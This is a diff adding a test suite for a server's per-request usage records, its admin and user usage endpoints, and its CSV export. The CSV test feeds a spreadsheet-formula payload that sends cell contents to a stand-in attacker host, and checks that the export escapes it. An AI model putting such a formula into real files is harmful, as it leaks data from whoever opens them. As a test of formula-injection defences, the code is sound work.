@@ -1,0 +1,288 @@
+import { Database } from "bun:sqlite";
+import { afterEach, describe, expect, setSystemTime, test } from "bun:test";
+import { join } from "node:path";
+import { addLimitedUser, answerChat, answering, callerOf, until } from "../../support/limited.ts";
+import { startModelScene } from "../../support/model-scene.ts";
+import { ADMIN_KEY, startTestServer, type TestServer } from "../../support/server.ts";
+import { openTestFile } from "../../support/store.ts";
+import { V2_HELLO, type V2AgentOptions } from "../../support/v2-agent.ts";
+import { readCsv } from "./read-csv.ts";
+
+const NOON = Date.UTC(2026, 10, 23, 12);
+const DAY_MS = 86_400_000;
+
+afterEach(() => {
+  setSystemTime();
+});
+
+async function usageOf(server: TestServer, query = "", path = "/admin/usage") {
+  const response = await fetch(`${server.url}${path}?${query}`, { headers: { authorization: ADMIN_KEY } });
+  const text = await response.text();
+  return {
+    response,
+    text,
+    body: response.headers.get("content-type")?.includes("json") ? JSON.parse(text) : {},
+  };
+}
+
+function rowsIn({ data }: TestServer): Record<string, unknown>[] {
+  const database = new Database(join(data, "server.db"), { readonly: true });
+  try {
+    return database.query<Record<string, unknown>, []>("SELECT * FROM usage ORDER BY seq").all();
+  } finally {
+    database.close();
+  }
+}
+
+const usage = { prompt_tokens: 7, completion_tokens: 3 };
+const EMPTY = { failed: 0, prompt_tokens: 0, completion_tokens: 0, uncounted: 0, duration_ms: 0 };
+
+/** Answers with figures, without, or not at all, as the model's name says. */
+const byModel: V2AgentOptions = {
+  hello: { ...V2_HELLO, models: [{ id: "m" }, { id: "silent about figures" }, { id: "broken" }] },
+  onAsk: ({ ask, stream, body }, agent) => {
+    const { model } = JSON.parse(body);
+    const error = { message: "no" };
+    if (model === "broken") agent.say({ type: "fail", ask, error, retryable: false, status: 500 });
+    else answerChat(agent, ask, stream, model === "m" ? usage : undefined);
+  },
+};
+
+describe("the rows", () => {
+  test("are one for each ask that was taken, exact in all they say, and none for one that was refused", async () => {
+    const { server, agent, post } = await startModelScene(byModel);
+    const user = await addLimitedUser(server.url, { requests_per_minute: 6 });
+    const caller = callerOf(server.url, user);
+    const from = Date.now();
+    const answers = [
+      await caller.chat(),
+      await caller.ask({ model: "silent about figures" }),
+      await caller.chat({ model: "broken" }),
+      await caller.chat({ model: "unheard of" }),
+      await caller.ask({ content: 5 }),
+      await caller.chat({ stream: true }),
+      await caller.chat(),
+      await post("chat/completions", { model: "m", messages: [] }),
+    ];
+    const until = Date.now();
+    expect(answers.map(({ status }) => status)).toEqual([200, 200, 500, 404, 400, 200, 429, 200]);
+    await Promise.all(answers.map((answer) => answer.text()));
+    await server.stop();
+
+    const common = { user_id: user.user_id, agent: agent.ready.agent, tries: 1 };
+    const chat = { ...common, surface: "chat/completions", status: 200, outcome: "ok" };
+    const counted = { prompt_tokens: 7, completion_tokens: 3 };
+    const none = { prompt_tokens: null, completion_tokens: null };
+    const rows = rowsIn(server);
+    expect(rows).toEqual(
+      [
+        { ...chat, ...counted, model: "m" },
+        { ...common, ...none, surface: "ask", status: 200, outcome: "ok", model: "silent about figures" },
+        { ...chat, ...none, model: "broken", status: 500, outcome: "agent_failed", first_byte_ms: null },
+        { ...chat, ...counted, model: "m" },
+        { ...chat, ...counted, model: "m", user_id: null },
+      ].map((row, index) => ({
+        seq: index + 1,
+        at: expect.any(Number),
+        request_id: expect.stringMatching(/^req_/),
+        queue_ms: expect.any(Number),
+        first_byte_ms: expect.any(Number),
+        duration_ms: expect.any(Number),
+        ...row,
+      })),
+    );
+    const taken = [0, 1, 2, 5, 7].map((index) => answers[index]?.headers.get("x-request-id"));
+    expect(rows.map((row) => row["request_id"])).toEqual(taken);
+    for (const { at } of rows) expect(at).toBeGreaterThanOrEqual(from);
+    for (const { at } of rows) expect(at).toBeLessThanOrEqual(until);
+  });
+
+  test("are written behind the asks, and those that wait or run still when the server stops", async () => {
+    const { server, agent } = await startModelScene({}, ["--drain", "100ms"]);
+    const caller = callerOf(server.url, await addLimitedUser(server.url));
+    const done = caller.chat();
+    answerChat(agent, (await agent.next("ask")).ask, false);
+    await done;
+    await until("it is written", async () => rowsIn(server).length === 1);
+    const running = [caller.chat(), caller.chat({ stream: true })];
+    await agent.next("ask");
+    answerChat(agent, (await agent.next("ask")).ask, true, usage);
+    await running[1];
+    await server.stop();
+    expect(rowsIn(server).map(({ outcome, prompt_tokens }) => [outcome, prompt_tokens])).toEqual([
+      ["ok", null],
+      ["ok", 7],
+      ["draining", null],
+    ]);
+  });
+
+  test("have no name longer than names are", async () => {
+    const { server } = await startModelScene(answering(), ["--reconnect-grace", "0s"]);
+    await callerOf(server.url, await addLimitedUser(server.url)).ask({ model: "x".repeat(100_000) });
+    await server.stop();
+    expect(rowsIn(server).map(({ model }) => String(model).length)).toEqual([256]);
+  });
+
+  test("that are too old are purged, at the start and without holding it up", async () => {
+    setSystemTime(NOON);
+    const { data, stop } = await startTestServer();
+    await stop();
+    const store = openTestFile(join(data, "server.db"));
+    const row = {
+      requestId: "req",
+      user: null,
+      agent: null,
+      model: null,
+      surface: "ask",
+      outcome: "no_agent",
+    };
+    const figures = { status: null, tries: 0, queueMs: 1, firstByteMs: null, durationMs: 1 };
+    for (let days = 8; days < 12; days++) {
+      const at = NOON - days * DAY_MS;
+      store.usage.record({ ...row, ...figures, at, promptTokens: null, completionTokens: null });
+    }
+    await store.close();
+    const server = await startTestServer(["--usage-days", "9"], { data });
+    await until("they are gone", async () => rowsIn(server).length === 2);
+    expect(rowsIn(server).map(({ at }) => at)).toEqual([NOON - 8 * DAY_MS, NOON - 9 * DAY_MS]);
+  });
+});
+
+describe("GET /admin/usage", () => {
+  /** Ann asks twice on the 21st and once on the 23rd, where Bob fails once and the administrator asks once. */
+  async function scene() {
+    setSystemTime(NOON - 2 * DAY_MS);
+    const { server, agent, post } = await startModelScene(byModel);
+    const [ann, bob] = [await addLimitedUser(server.url), await addLimitedUser(server.url)];
+    await callerOf(server.url, ann).chat();
+    await callerOf(server.url, ann).chat({ model: "silent about figures" });
+    setSystemTime(NOON);
+    await callerOf(server.url, ann).chat();
+    await callerOf(server.url, bob).chat({ model: "broken" });
+    await post("chat/completions", { model: "m", messages: [] });
+    return { server, agent, ann, bob };
+  }
+
+  const sums = (asks: number, more: object = {}) => ({ asks, ...EMPTY, ...more });
+  const counted = (asks: number) => ({ prompt_tokens: 7 * asks, completion_tokens: 3 * asks });
+
+  test("sums the last 30 days by day, and by whatever else is asked for", async () => {
+    const { server, agent, ann, bob } = await scene();
+    const { body } = await usageOf(server);
+    expect(body).toEqual({
+      from: "2026-10-25T00:00:00.000Z",
+      to: "2026-11-24T00:00:00.000Z",
+      by: ["day"],
+      truncated: false,
+      usage: [
+        { day: "2026-11-21", ...sums(2, { ...counted(1), uncounted: 1 }) },
+        { day: "2026-11-23", ...sums(3, { ...counted(2), uncounted: 1, failed: 1 }) },
+      ],
+    });
+    const by = async (query: string) => (await usageOf(server, query)).body.usage;
+    const [most, ...others] = await by("by=user");
+    expect(most).toEqual({ user: ann.user_id, ...sums(3, { ...counted(2), uncounted: 1 }) });
+    // They have as many asks.
+    expect(others).toHaveLength(2);
+    expect(others).toContainEqual({ user: bob.user_id, ...sums(1, { uncounted: 1, failed: 1 }) });
+    expect(others).toContainEqual({ user: null, ...sums(1, counted(1)) });
+    expect(await by("by=model,agent&from=2026-11-23")).toEqual([
+      { model: "m", agent: agent.ready.agent, ...sums(2, counted(2)) },
+      { model: "broken", agent: agent.ready.agent, ...sums(1, { uncounted: 1, failed: 1 }) },
+    ]);
+    expect(await by("by=")).toEqual([sums(5, { ...counted(3), uncounted: 2, failed: 1 })]);
+    expect(await by("by=day&user=admin")).toEqual([{ day: "2026-11-23", ...sums(1, counted(1)) }]);
+    expect(await by(`by=model&user=${bob.user_id}`)).toMatchObject([{ model: "broken" }]);
+    expect(await by("user=nobody")).toEqual([]);
+    expect((await usageOf(server, "by=user&limit=2")).body).toMatchObject({
+      truncated: true,
+      usage: [{}, {}],
+    });
+    expect((await usageOf(server, "by=user&limit=3")).body).toMatchObject({ truncated: false });
+  });
+
+  test("takes a date with all of its day, and a time to the millisecond without itself", async () => {
+    const { server } = await scene();
+    const asks = async (query: string) => (await usageOf(server, `by=&${query}`)).body.usage[0]?.asks ?? 0;
+    expect(await asks("from=2026-11-21&to=2026-11-21")).toBe(2);
+    expect(await asks("from=2026-11-22&to=2026-11-22")).toBe(0);
+    expect(await asks("from=2026-11-23T12:00:00Z")).toBe(3);
+    expect(await asks("from=2026-11-23T12:00:00.001Z")).toBe(0);
+    expect(await asks("to=2026-11-23T12:00:00Z")).toBe(2);
+    expect(await asks("from=2026-11-23T14:00:00%2B02:00")).toBe(3);
+    expect(await asks("from=2026-11-23T14:00:00+02:00")).toBe(3);
+    expect((await usageOf(server, "to=2026-03-01")).body).toMatchObject({
+      from: "2026-01-31T00:00:00.000Z",
+      to: "2026-03-02T00:00:00.000Z",
+    });
+  });
+
+  test.each([
+    ["from=yesterday", "from"],
+    ["from=2026-02-30", "from"],
+    ["to=2026-11-23T12:00:00", "to"],
+    ["from=2026-11-23&to=2026-11-22", "to"],
+    ["by=user,colour", "by"],
+    ["format=xml", "format"],
+    ["limit=0", "limit"],
+    ["limit=10001", "limit"],
+    ["limit=many", "limit"],
+  ])("refuses %s, and names the field", async (query, field) => {
+    const server = await startTestServer();
+    const { response, body } = await usageOf(server, query);
+    expect([response.status, body]).toEqual([
+      400,
+      { error: "Invalid request", hint: expect.stringMatching(new RegExp(`^${field}[.:]`)) },
+    ]);
+  });
+
+  test("is for the administrator, as is that of one user, and one's own is for everybody", async () => {
+    const { server, ann, bob } = await scene();
+    const caller = callerOf(server.url, ann);
+    for (const path of ["/admin/usage", `/admin/users/${ann.user_id}/usage`]) {
+      expect((await caller.get(path)).status).toBe(401);
+      expect((await fetch(`${server.url}${path}?admin_key=${ADMIN_KEY}`)).status).toBe(401);
+    }
+    const { body } = await usageOf(server, "by=model", `/admin/users/${ann.user_id}/usage`);
+    const anns = [
+      { model: "m", ...sums(2, counted(2)) },
+      { model: "silent about figures", ...sums(1, { uncounted: 1 }) },
+    ];
+    expect(body.usage).toEqual(anns);
+
+    const own = async (query: string) => {
+      const response = await caller.get(`/api/usage?${query}`);
+      return { status: response.status, body: (await response.json()) as { usage: unknown; hint: unknown } };
+    };
+    expect((await own(`by=model&user=${bob.user_id}`)).body.usage).toEqual(anns);
+    for (const group of ["user", "agent"])
+      expect(await own(`by=${group}`)).toMatchObject({
+        status: 400,
+        body: { hint: "by: give some of: model, day" },
+      });
+    expect((await usageOf(server, "by=", "/api/usage")).body.usage).toEqual([sums(1, counted(1))]);
+    expect((await fetch(`${server.url}/api/usage`)).status).toBe(401);
+  });
+
+  test("gives a table for spreadsheets, in which no name that an agent chose is a formula", async () => {
+    const models = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "plain, with a comma"];
+    const { server, post } = await startModelScene({
+      ...answering(usage),
+      hello: { ...V2_HELLO, models: models.map((id) => ({ id })) },
+    });
+    for (const model of models) await post("chat/completions", { model, messages: [] });
+    const { response, text } = await usageOf(server, "by=user,model&format=csv");
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    expect(response.headers.get("content-disposition")).toBe('attachment; filename="usage.csv"');
+    const [header, ...rows] = readCsv(text);
+    expect(header?.slice(0, -1)).toEqual([
+      ...["user", "model", "asks", "failed", "prompt_tokens", "completion_tokens", "uncounted"],
+    ]);
+    const figures = ["1", "0", "7", "3", "0"];
+    expect(rows.map((row) => row.slice(0, -1)).toSorted()).toEqual(
+      [`'${models[0]}`, `'${models[1]}`, models[2] ?? ""].map((model) => ["", model, ...figures]).toSorted(),
+    );
+    const cut = await usageOf(server, "by=model&format=csv&limit=2");
+    expect([readCsv(cut.text).length, cut.response.headers.get("x-truncated")]).toEqual([3, "true"]);
+  });
+});
